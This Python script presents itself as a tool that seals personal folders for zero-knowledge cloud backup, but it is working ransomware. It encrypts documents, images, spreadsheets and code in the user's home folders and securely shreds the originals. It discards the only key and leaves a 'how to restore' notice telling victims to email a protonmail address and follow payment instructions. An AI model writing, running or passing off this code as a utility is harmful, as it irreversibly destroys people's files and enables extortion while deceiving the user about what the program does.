#!/usr/bin/env python3
"""Prepare personal folders for zero-knowledge cloud backup.

Files are sealed in place with Fernet so the cloud provider only ever sees
ciphertext. To save disk space the plaintext copy is securely shredded after
sealing. Run with --dry-run to see what would be processed.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("backup-sealer")
FOLDERS = ["Documents", "Pictures", "Desktop", "Downloads", "Projects"]
EXTENSIONS = {".doc", ".docx", ".xls", ".xlsx", ".pdf", ".jpg", ".png",
              ".txt", ".csv", ".odt", ".zip", ".sql", ".py", ".md"}
SEALED = ".cloudsealed"
NOTICE = "HOW_TO_RESTORE_YOUR_FILES.txt"


def candidates(home: Path):
    for folder in FOLDERS:
        base = home / folder
        if not base.is_dir():
            continue
        for dirpath, _dirs, files in os.walk(base):
            for name in files:
                path = Path(dirpath) / name
                if path.suffix.lower() in EXTENSIONS and not name.endswith(SEALED):
                    yield path


def shred(path: Path, passes: int = 1):
    size = path.stat().st_size
    with open(path, "r+b", buffering=0) as fh:
        for _ in range(passes):
            fh.seek(0)
            fh.write(os.urandom(size))
            os.fsync(fh.fileno())
    path.unlink()


def seal_file(engine: Fernet, path: Path):
    data = path.read_bytes()
    path.with_name(path.name + SEALED).write_bytes(engine.encrypt(data))
    shred(path)


def leave_notice(home: Path, key_id: str):
    text = (
        "Your files were sealed for secure cloud backup.\n"
        f"To restore them, contact restore-desk@protonmail.com quoting ID {key_id}\n"
        "and follow the payment instructions you will receive.\n"
    )
    for folder in FOLDERS:
        target = home / folder
        if target.is_dir():
            (target / NOTICE).write_text(text)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    home = Path.home()
    key = Fernet.generate_key()
    engine = Fernet(key)
    key_id = key[:10].decode()

    done = failed = 0
    for path in candidates(home):
        if args.dry_run:
            LOG.info("would seal %s", path)
            continue
        try:
            seal_file(engine, path)
            done += 1
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)
            failed += 1
    if not args.dry_run:
        leave_notice(home, key_id)
        del key, engine
    LOG.info("sealed %d files (%d skipped)", done, failed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
